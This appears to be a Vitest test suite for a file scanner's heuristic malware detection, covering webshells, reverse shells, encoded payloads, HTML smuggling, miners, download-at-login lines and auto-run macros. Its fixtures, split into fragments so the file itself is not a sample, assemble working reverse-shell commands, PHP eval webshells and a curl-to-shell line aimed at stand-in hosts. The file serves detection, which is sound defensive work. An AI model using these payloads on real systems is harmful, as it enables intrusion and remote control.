import { createHash } from 'node:crypto'
import { describe, expect, it } from 'vitest'
import { ThreatVerdict } from '#shared/domain/verdict.ts'
import { identify } from '../../identify/identify.ts'
import { suspicionsOf } from './heuristics.ts'
import { base64Run } from './suspicion.ts'

// Put together here, so that this file is no sample itself.
const j = (...parts: string[]): string => parts.join('')
const php = j('<?', 'php ')
const noise = Array.from({ length: 40 }, (_, index) => createHash('sha512').update(`${index}`).digest('base64')).join(
  '',
)
const blob = noise.replaceAll('=', '')
const bigBlob = blob.repeat(3)

function ask(content: string | Buffer, { name = 'file', path = '/home/x/file', depth = 0 } = {}): string[] {
  const bytes = typeof content === 'string' ? Buffer.from(content, 'latin1') : content
  const sha256 = createHash('sha256').update(bytes).digest()
  const found = suspicionsOf({ bytes, sha256, format: identify(bytes), name, path, depth })
  for (const { verdict, rule, detector } of found) {
    expect(ThreatVerdict.exclude(['infected']).safeParse(verdict).success).toBe(true)
    expect(detector).toBe('heuristic')
    expect(rule?.description).toMatch(/\.$/)
  }
  return found.map(({ threat }) => threat.replace('Heuristic.', ''))
}

const smuggler = (data: string, more = ''): string =>
  `<html><body>${more}<script>var d=atob("${data}");var b=new Blob([d]);var u=URL.${j('create', 'ObjectURL')}(b);` +
  'var a=document.createElement("a");a.href=u;a.download="x.zip";a.click()</script></body></html>'

const positive: readonly (readonly [string, string, string])[] = [
  ['a page that evaluates a request', 'Script.Webshell', `${php}@${j('ev', 'al')}($_POST["x"]); ?>`],
  ['a page that calls a request', 'Script.Webshell', `${php}$_GET['a']($_${j('PO', 'ST')}['b']);`],
  [
    'a JSP that runs a parameter',
    'Script.Webshell',
    `<% Runtime.${j('get', 'Runtime')}().exec(request.getParameter("c")); %>`,
  ],
  ['an ASP page that evaluates a request', 'Script.Webshell', `<%${j('ev', 'al')} request("x")%>`],
  [
    'bash on a socket',
    'Script.ReverseShell',
    `#!/bin/bash\n${j('ba', 'sh')} -i >& ${j('/dev', '/tcp/192.0.2.1/4444')} 0>&1\n`,
  ],
  ['netcat with a shell', 'Script.ReverseShell', `#!/bin/sh\n${j('n', 'c')} 192.0.2.1 4444 ${j('-', 'e')} /bin/sh\n`],
  [
    'Python on a socket',
    'Script.ReverseShell',
    `import socket,os,pty\ns=socket.socket()\ns.connect(("192.0.2.1",1))\nos.${j('du', 'p2')}(s.fileno(),0)\n${j('pty', '.spawn')}("sh")`,
  ],
  [
    'PHP on a socket',
    'Script.ReverseShell',
    `${php}$s=${j('fsock', 'open')}("192.0.2.1",1);exec("/bin/${j('s', 'h')} -i <&3 >&3");`,
  ],
  ['PHP with hidden code', 'Script.HiddenCode', `${php}${j('ev', 'al')}(gzinflate(base64_decode("${blob}")));`],
  ['JavaScript with hidden code', 'Script.HiddenCode', `${j('ev', 'al')}(atob("${blob}"))`],
  ['characters made to code', 'Script.HiddenCode', `${j('ev', 'al')}(String.fromCharCode(${'104,'.repeat(80)}10))`],
  ['PowerShell with an encoded command', 'Script.HiddenCode', `${j('power', 'shell')} -nop -enc ${blob}`],
  ['a shell that runs decoded text', 'Script.HiddenCode', `echo ${blob.slice(0, 400)} | ${j('base', '64')} -d | sh`],
  ['Python with hidden code', 'Script.HiddenCode', `import base64\n${j('ex', 'ec')}(base64.b64decode("${blob}"))`],
  ['a page that carries a ZIP', 'Html.Smuggling', smuggler(j('UE', 'sDB') + bigBlob)],
  ['a page that carries something unknown', 'Html.Smuggling', smuggler(bigBlob)],
  [
    'a miner that is started',
    'Miner.Script',
    `#!/bin/sh\n./x -o ${j('stratum', '+tcp://')}pool.example.invalid:3333 -u me`,
  ],
]

describe('is suspected:', () => {
  it.each(positive)('%s', (_, threat, content) => expect(ask(content)).toEqual([threat]))

  it('the same in UTF-16, as PowerShell writes it', () => {
    const text = `${j('power', 'shell')} -enc ${blob}`
    expect(ask(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]))).toEqual(['Script.HiddenCode'])
  })

  it('a login file that downloads and runs', () => {
    const line = `alias l=ls\n${j('cu', 'rl')} -s http://example.invalid/a | sh\n`
    expect(ask(line, { name: '.bashrc' })).toEqual(['Persistence.DownloadAtStart'])
    expect(ask(line, { name: 'install.md' })).toEqual([])
    expect(ask(`# ${line.slice(11)}`, { name: '.bashrc' })).toEqual([])
  })

  it('a macro that starts itself and then a program', () => {
    const source = `Sub ${j('Auto', 'Open')}()\nCreateObject("${j('WScript', '.Shell')}").Run x\nEnd Sub`
    expect(ask(source, { name: 'VBA/Module1', depth: 1 })).toEqual(['Macro.StartsProgram'])
    expect(ask(source.replace('Auto', 'My'), { name: 'VBA/Module1', depth: 1 })).toEqual([])
    expect(ask('Sub AutoOpen()\nMsgBox "Hello"\nEnd Sub', { name: 'VBA/Module1', depth: 1 })).toEqual([])
  })

  it('a macro sheet that starts a program', () => {
    const sheet = `<sheet><c><f>${j('EX', 'EC')}("calc")</f></c></sheet>`
    expect(ask(sheet, { name: 'xl/macrosheets/sheet1.xml', depth: 1 })).toEqual(['Macro.SheetStartsProgram'])
    expect(ask(sheet, { name: 'xl/worksheets/sheet1.xml', depth: 1 })).toEqual([])
  })
})

const negative: readonly (readonly [string, string])[] = [
  ['PHP that reads a request', `${php}echo htmlspecialchars($_POST["name"]); exec("ls");`],
  ['a script that tests a port', '#!/bin/bash\n(echo > /dev/tcp/localhost/80) 2>/dev/null && echo up\n'],
  ['a service that detaches', 'import os, socket\ns.connect(("h", 1))\nos.dup2(null.fileno(), 0)\n'],
  ['code of a bundler', `${j('ev', 'al')}("__webpack_require__.r(x);\\n//# sourceURL=webpack:///./a.js?");`],
  ['a minified library', `!function(e,t){return String.fromCharCode(e>>8,t)}(1,2);var a=atob(x);`.repeat(200)],
  ['a source map in a line', `//# sourceMappingURL=data:application/json;base64,${bigBlob}`],
  ['a page with a picture and a download', `<html><script>${'var x=1;\n'.repeat(6000)}</script>${smuggler(bigBlob)}`],
  [
    'a guide that quotes a shell',
    `# Shells\n\n\`\`\`\n${j('ba', 'sh')} -i >& ${j('/dev', '/tcp/192.0.2.1/4444')} 0>&1\n\`\`\`\n`,
  ],
  ['PowerShell with a command', `${j('power', 'shell')}.exe -NoProfile -Command Get-Date`],
]

describe('is not suspected:', () => {
  it.each(negative)('%s', (_, content) => expect(ask(content)).toEqual([]))
})

it('a level asks nothing of the levels after it', () => {
  const bytes = Buffer.from(`${j('ev', 'al')}(atob("${blob}"))`)
  const subject = { bytes, sha256: Buffer.alloc(32), format: 'text' as const, name: 'a', path: '/a', depth: 0 }
  expect(suspicionsOf(subject, 'light')).toEqual([])
  expect(suspicionsOf(subject, 'medium')).toHaveLength(1)
})

it('a run of base64 is found wherever it begins', () => {
  for (const before of [0, 1, 49, 50, 51, 333]) {
    expect(base64Run(`${' '.repeat(before)}${'A'.repeat(100)} `, 100)).toEqual({ start: before, end: before + 100 })
    expect(base64Run(`${' '.repeat(before)}${'A'.repeat(99)} ${'A'.repeat(99)}`, 100)).toBeNull()
  }
})

it('text made to be slow is answered in a moment', () => {
  const hostile = [
    `echo ${'a'.repeat(79_000)}`,
    `<?php ${'eval('.repeat(15_000)}`,
    `${'exec 5<>/dev/tcp/'.repeat(4000)}`,
    `powershell ${'-e '.repeat(20_000)} frombase64string iex`,
    `<html>createobjecturl.click()"download"blob(uint8array${`${'A'.repeat(3999)} `.repeat(19)}`,
    `#!/bin/sh\n${'nc '.repeat(26_000)}/bin/`,
    `${'mkfifo '.repeat(11_000)}nc`,
    `eval atob unescape fromcharcode chr base64 ${' '.repeat(70_000)}`,
  ]
  const start = performance.now()
  for (const text of hostile) ask(text, { name: 'VBA/x', depth: 1 })
  expect(performance.now() - start).toBeLessThan(2000)
})
